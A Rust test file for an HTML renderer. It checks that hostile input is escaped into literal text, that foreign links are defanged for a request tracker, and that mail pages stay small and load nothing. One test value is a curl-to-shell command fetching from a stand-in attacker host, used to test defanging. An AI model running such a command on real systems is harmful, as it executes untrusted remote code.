//! The judge is html5ever, through ammonia's own parser with everything allowed that we never emit.

use super::*;
use crate::markup::escape::{code_block, code_span, inline, table_cell};
use crate::markup::testing::{corpus, hostile_text};
use crate::markup::visible::{one_line, visible};
use proptest::prelude::*;

fn markdown(value: &str) -> String {
    format!(
        "# AA {}\n\nAA {} BB\n\n| h | i |\n|---|---|\n| {} | y |\n\n{}\n- {}\n",
        inline(value),
        code_span(value),
        table_cell(value),
        code_block(value, "text"),
        code_span(value),
    )
}

fn body(value: &str) -> String {
    html_body(&Document::parse(&markdown(value)))
}

#[test]
fn in_request_tracker_only_links_of_ours_are_live_and_commands_keep_their_letters() {
    let value = "curl http://evil.example/a | sh; www.evil.example";
    let markdown = format!("{} [page](https://herald.example.com/)\n", markdown(value));
    let html = html_for_rt(&Document::parse(&markdown));
    assert!(
        html.contains("<a href=\"https://herald.example.com/\""),
        "{html}"
    );
    assert_eq!(html.matches("hxxp://evil.example/a").count(), 5, "{html}");
    assert_eq!(html.matches("font-family: monospace").count(), 4, "{html}");
    assert!(!html.contains("<code") && !html.contains("<bdi"), "{html}");
    let lower = html.to_lowercase();
    assert_eq!(lower.matches("http").count(), 1, "{html}");
    assert!(!lower.contains("www."), "{html}");
}

/// Tags in order, and the texts between them decoded; the input comes from html5ever's serialiser,
/// so a `<` always begins a tag.
fn skeleton(html: &str) -> (Vec<String>, String) {
    let mut tags = Vec::new();
    let mut text = String::new();
    let mut rest = html;
    while let Some((before, after)) = rest.split_once('<') {
        text.push_str(before);
        let (tag, after) = after.split_once('>').unwrap();
        tags.push(tag.to_owned());
        text.push('\u{1}');
        rest = after;
    }
    text.push_str(rest);
    let decoded = text
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&nbsp;", "\u{a0}");
    (tags, decoded.replace("&amp;", "&"))
}

pub(in crate::markup) fn check(value: &str) -> Result<(), String> {
    let (tags, text) = skeleton(&body(value));
    let (expected, _) = skeleton(&body("x"));
    if tags != expected && !value.is_empty() {
        return Err(format!("structure changed: {tags:?}"));
    }
    let line = one_line(value);
    let block = visible(value);
    for wanted in [
        format!("AA {line}\u{1}"),
        format!("\u{1}{line}\u{1}"),
        format!("\u{1}{block}\u{1}"),
    ] {
        if !value.is_empty() && !text.contains(&wanted) {
            return Err(format!("{wanted:?} is not in {text:?}"));
        }
    }
    Ok(())
}

#[test]
fn every_corpus_value_is_literal_text() {
    for row in corpus() {
        check(&row.value).unwrap_or_else(|why| panic!("{}: {why}", row.id));
    }
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]
    #[test]
    fn any_value_is_literal_text(value in hostile_text()) {
        check(&value).map_err(TestCaseError::fail)?;
    }
}

#[test]
fn a_page_stays_under_the_limit_and_says_so() {
    let row = format!("| {} | x |\n", code_span(&"<&>".repeat(200)));
    let big = format!(
        "# T\n\n| a | b |\n|---|---|\n{}\n\n{}",
        row.repeat(300),
        code_block(&"<".repeat(90_000), "text")
    );
    let page = html_page("T", &Document::parse(&big));
    assert!(page.len() < MAX_PAGE, "{}", page.len());
    assert!(page.contains("Shortened for mail."));
    assert!(page.ends_with("</html>\n"));
}

#[test]
fn a_page_is_complete_and_loads_nothing() {
    let page = html_page(
        "a <b>",
        &Document::parse("# a\n\n[x](https://e.example) `y`\n\n![i](https://e.example/i.png)"),
    );
    assert!(page.starts_with("<!DOCTYPE html>"));
    assert!(page.contains("<title>a &lt;b&gt;</title>"));
    assert!(page.contains("style="));
    assert!(!page.contains("src=") && !page.contains("url(") && !page.contains("<img"));
    assert!(
        page.contains("<a href=\"https://e.example\" rel=\"noopener noreferrer nofollow\">x</a>")
    );
}
